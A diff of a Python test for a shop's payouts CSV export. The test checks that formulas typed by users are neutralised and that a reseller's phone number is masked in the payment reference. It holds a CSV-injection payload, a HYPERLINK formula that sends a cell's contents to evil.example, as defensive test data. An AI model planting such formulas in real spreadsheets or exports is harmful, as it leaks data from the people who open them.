@@ -244,10 +244,10 @@ def test_cookies_are_secure_when_the_store_is_https(shop, monkeypatch) -> None:
 def test_the_payouts_csv_neutralises_formulas_people_typed(shop) -> None:
     store, app = shop
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
-    store("reseller", "add", hostile, "--sponsor", "老李")
+    store("reseller", "add", hostile, "--sponsor", "老李", "--phone", "+8613800000000")
     ref = store.json("link", "create", "--reseller", hostile)["code"]
     store("order", "create", "--sku", "KIWI", "--qty", "1", "--buyer", "@SUM(1+1)", "--ref", ref)
-    store("order", "create", "--sku", "KIWI", "--qty", "1", "--buyer", hostile, "--contact", "+8613800000000")
+    store("order", "create", "--sku", "KIWI", "--qty", "1", "--buyer", hostile)  # her own: earns nothing
     for number in ("1", "2", "3"):  # 1 is 張三's, through 勤妹子
         store("order", "pay", number, "--now", "2026-01-01T10:00:00+08:00")
         store("order", "deliver", number, "--now", "2026-01-02T10:00:00+08:00")
@@ -257,6 +257,6 @@ def test_the_payouts_csv_neutralises_formulas_people_typed(shop) -> None:
     rows = {r["beneficiary"]: r for r in csv.DictReader(io.StringIO(seller.get("/console/money/payouts.csv").text))}
     mine = rows["'" + hostile]
     assert (mine["contact"], mine["amount"]) == ("'+8613800000000", "10.00")  # the amount is ours: a number
-    assert mine["reference"] == f"manual transfer of 10.00 to {hostile} (+8613800000000)"  # no formula at its start
+    assert mine["reference"] == f"manual transfer of 10.00 to {hostile} (+86 138****0000)"  # no formula at its start
     assert rows["勤妹子"]["beneficiary"] == "勤妹子" and rows["勤妹子"]["amount"] == "20.00"  # plain text unchanged
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())
